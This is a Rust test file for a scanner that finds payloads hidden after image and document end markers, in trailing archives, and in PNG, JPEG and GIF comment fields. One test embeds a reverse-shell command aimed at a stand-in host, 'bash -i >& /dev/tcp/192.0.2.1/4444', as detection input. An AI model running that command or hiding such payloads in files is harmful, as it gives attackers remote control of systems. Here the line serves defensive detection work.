//! Pictures and documents that carry something.

use model::ContentKind;

use super::*;

const GIF: &[u8] =
    b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";
const JPEG: &[u8] = b"\xff\xd8\xff\xe0\0\x04ab\xff\xda\0\x02\x12\xff\0\x34\xff\xd0\x56\xff\xd9";
const PDF: &[u8] = b"%PDF-1.4\n1 0 obj\nendobj\ntrailer\n%%EOF\n";

/// A chunk of a PNG picture; its sum is not looked at.
fn chunk(kind: &[u8], data: &[u8]) -> Vec<u8> {
    let length = u32::try_from(data.len()).unwrap().to_be_bytes();
    [&length[..], kind, data, &[0; 4]].concat()
}

fn png(chunks: &[Vec<u8>]) -> Vec<u8> {
    let end = chunk(b"IEND", b"");
    [b"\x89PNG\r\n\x1a\n", &chunks.concat()[..], &end].concat()
}

#[test]
fn what_follows_the_end_is_read() {
    let tgz = gzipped(&tarred(&[("run.sh", SCRIPT)]));
    let zip = zipped(&[("run.sh", SCRIPT)]);
    let webp = b"RIFF\x08\0\0\0WEBPabcd";
    let film = b"\0\0\0\x10ftypisom\0\0\0\0\0\0\0\x08free";
    let holders: [(&str, &[u8]); 6] = [
        ("a GIF picture", GIF),
        ("a JPEG picture", JPEG),
        ("a PNG picture", &png(&[])),
        ("a PDF document", PDF),
        ("media", webp),
        ("media", film),
    ];
    let payloads: [(&str, &[u8]); 3] = [
        ("", SCRIPT),
        (" > gzip > tar: run.sh", &tgz),
        (" > zip: run.sh", &zip),
    ];
    for (name, holder) in holders {
        for (rest, payload) in payloads {
            let content = [holder, payload].concat();
            let expected = format!("after the end of {name}{rest}");
            assert_eq!(chains(&read("x.bin", &content)), [expected]);
        }
    }
}

#[test]
fn a_program_behind_a_picture_is_told() {
    let content = [GIF, b"\x7fELF\x02\x01\x01"].concat();
    let reading = read("x.gif", &content);
    let is = |fact: &Fact| {
        matches!(
            fact,
            Fact::Trailing { picture: ContentKind::Gif, content: ContentKind::Elf, offset, .. }
                if *offset == GIF.len() as u64
        )
    };
    assert!(reading.facts.iter().any(is));
    assert_eq!(read("x.gif", &[GIF, b"\0\0\n"].concat()).facts, []);
}

#[test]
fn an_archive_is_found_from_its_end() {
    let zip = zipped(&[("run.sh", SCRIPT)]);
    let script = [b"#!/usr/bin/env python3\n", &zip[..]].concat();
    assert_eq!(
        chains(&read("x", &script)),
        ["after the script > zip: run.sh"]
    );
    // Something before it that has no end of its own.
    let data = [&[0xc3, 0, 0x17].repeat(50)[..], &zip].concat();
    assert_eq!(chains(&read("x", &data)), ["zip at the end: run.sh"]);
    let elf = [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0; 90], &zip].concat();
    let found = chains(&read("x", &elf));
    assert!(
        found.contains(&"zip at the end: run.sh".to_owned()),
        "{found:?}"
    );
}

#[test]
fn comments_that_are_code_are_read() {
    let code = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
    let text = [b"Comment\0", code.as_bytes()].concat();
    let international = [b"Comment\0\0\0\0\0", code.as_bytes()].concat();
    let length = u8::try_from(code.len() + 2).unwrap();
    let comment = [
        &[0xff, 0xd8, 0xff, 0xfe, 0, length],
        code.as_bytes(),
        &JPEG[2..],
    ]
    .concat();
    let length = u8::try_from(code.len()).unwrap();
    let gif = [
        &GIF[..19],
        &[0x21, 0xfe, length],
        code.as_bytes(),
        &[0],
        &GIF[19..],
    ]
    .concat();
    let cases = [
        ("PNG text", png(&[chunk(b"tEXt", &text)])),
        ("PNG text", png(&[chunk(b"iTXt", &international)])),
        ("JPEG comment", comment),
        ("GIF comment", gif),
    ];
    for (chain, content) in cases {
        assert_eq!(chains(&read("x.bin", &content)), [chain]);
    }
    let honest = png(&[chunk(b"tEXt", b"Software\0Some editor 1.2 (of the house)")]);
    assert_eq!(read("x.png", &honest).facts, []);
}
